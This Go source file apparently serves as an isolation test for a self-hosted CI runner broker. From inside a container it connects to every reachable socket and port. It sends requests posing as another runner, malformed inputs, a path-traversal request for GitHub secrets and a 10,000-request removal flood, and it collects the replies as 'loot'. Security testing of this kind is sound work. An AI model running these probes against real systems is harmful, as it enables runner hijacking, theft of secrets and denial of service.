package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"
)

const flood = 10_000

// requests has both of the broker's forms, with another runner's name and id, and wrong ones.
func requests() []string {
	runner := fmt.Sprintf(`{"name":%q,"labels":["self-hosted"],"ephemeral":false,"replace":true}`, foreignName)
	lines := []string{
		`{"id":1,"request":"register","configured":false,"workFolder":"/home/runner/_work"}`,
		`{"id":2,"request":"register","configured":false,"workFolder":"/home/runner/_work","runner":` + runner + `}`,
		`{"id":3,"request":"register","configured":true,"workFolder":"/home/runner/_work","runner":` + runner + `}`,
		`{"id":4,"request":"register","configured":false,"workFolder":"/w","lease":"` + strings.Repeat("0", 64) + `"}`,
		`{"id":5,"request":"remove"}`,
		fmt.Sprintf(`{"id":6,"request":"remove","runner":%d}`, foreignID),
		fmt.Sprintf(`{"id":7,"request":"remove","name":%q}`, foreignName),
		`{"id":8,"request":"credential"}`,
		`{"jitConfiguration":"e30="}`,
		`[]`, `null`, `{`, `{"id":-1,"request":"remove"}`, `{"id":9,"request":"__proto__"}`, "\x00\xff",
		"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r",
	}
	for at := range lines {
		lines[at] += "\n"
	}
	return lines
}

// sockets connects to everything that listens in this container.
func sockets(l *loot) {
	for _, path := range unixSockets() {
		l.count("Unix sockets")
		talk(l, "socket "+path, func() (net.Conn, error) { return net.DialTimeout("unix", path, time.Second) })
	}
	for _, port := range ports {
		address := fmt.Sprintf("127.0.0.1:%d", port)
		l.count("TCP ports")
		talk(l, "port "+address, func() (net.Conn, error) { return net.DialTimeout("tcp", address, time.Second) })
		talk(l, "TLS port "+address, func() (net.Conn, error) {
			dialer := &net.Dialer{Timeout: time.Second}
			return tls.DialWithDialer(dialer, "tcp", address, &tls.Config{InsecureSkipVerify: true})
		})
		for _, path := range []string{"/", "/metrics", "/health", "/../../run/secrets/github", "/json"} {
			if connection, err := net.DialTimeout("tcp", address, time.Second); err == nil {
				l.count("requests by HTTP")
				fmt.Fprintf(connection, "GET %s HTTP/1.0\r\nHost: localhost\r\n\r\n", path)
				collect(l, "port "+address+path, connection, time.Second)
			}
		}
	}
	// The ways in which a broker is reached, also where the folder cannot be listed.
	for _, path := range []string{"/run/runner-broker/broker.sock", "/var/lib/runner-broker/broker.sock", "/run/runner-broker"} {
		l.count("Unix sockets")
		talk(l, "socket "+path, func() (net.Conn, error) { return net.DialTimeout("unix", path, time.Second) })
	}
}

func talk(l *loot, source string, dial func() (net.Conn, error)) {
	l.count("connections")
	for _, request := range append(requests(), strings.Repeat("x", 1<<20)+"\n") {
		connection, err := dial()
		if err != nil {
			l.count("connections that were refused")
			return
		}
		l.count("requests")
		_ = connection.SetDeadline(time.Now().Add(2 * time.Second))
		_, _ = connection.Write([]byte(request))
		collect(l, source, connection, 300*time.Millisecond)
	}
	connection, err := dial()
	if err != nil {
		return
	}
	go func() {
		_ = connection.SetWriteDeadline(time.Now().Add(10 * time.Second))
		writer := bufio.NewWriterSize(connection, 1<<16)
		for number := range flood {
			l.count("requests")
			if _, err := fmt.Fprintf(writer, `{"id":%d,"request":"remove"}`+"\n", number); err != nil {
				return
			}
		}
		_ = writer.Flush()
	}()
	collect(l, source, connection, 3*time.Second)
}

func collect(l *loot, source string, connection net.Conn, timeout time.Duration) {
	defer connection.Close()
	_ = connection.SetReadDeadline(time.Now().Add(timeout))
	buffer := make([]byte, 1<<16)
	for {
		n, err := connection.Read(buffer)
		if n > 0 {
			l.keep(source, buffer[:n])
		}
		if err != nil {
			return
		}
	}
}

func unixSockets() []string {
	found := map[string]bool{}
	text, _ := os.ReadFile("/proc/net/unix")
	for _, line := range strings.Split(string(text), "\n") {
		fields := strings.Fields(line)
		// One without a path is of this host, whose network the container may share; and of those with one, it has to be in this container.
		if len(fields) == 8 && strings.HasPrefix(fields[7], "/") {
			if info, err := os.Lstat(fields[7]); err == nil && info.Mode()&os.ModeSocket != 0 {
				found[fields[7]] = true
			}
		}
	}
	_ = filepath.WalkDir("/", func(path string, entry os.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if entry.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr" || path == "/opt") {
			return filepath.SkipDir
		}
		if entry.Type()&os.ModeSocket != 0 {
			found[path] = true
		}
		return nil
	})
	var all []string
	for path := range found {
		all = append(all, path)
	}
	return all
}
